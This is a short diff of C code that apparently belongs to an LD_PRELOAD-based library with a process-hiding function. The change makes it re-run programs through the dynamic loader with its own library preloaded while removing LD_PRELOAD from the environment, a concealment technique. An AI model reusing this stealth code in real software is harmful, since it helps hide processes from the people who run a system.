@@ -31,13 +31,14 @@ static void hide_proc(void) {
 
 /* By the loader, which is told what to preload, and finds it nowhere else. */
 static void by_loader(char **arguments) {
-	char *words[32] = {"ld.so", "--preload", (char *)ours};
-	char loader[1024];
+	char both[2400], loader[1024];
+	char *words[32] = {"ld.so", "--preload", both};
 	Dl_info info;
 	if (!dladdr((void *)getauxval(AT_BASE), &info))
 		return;
 	snprintf(loader, sizeof loader, "%s", info.dli_fname);
 	unsetenv("LD_PRELOAD");
+	snprintf(both, sizeof both, "%s:%s", ours, first);
 	int n = *ours ? 3 : 1;
 	for (words[n++] = host; *arguments && n < 31; arguments++)
 		words[n++] = *arguments;
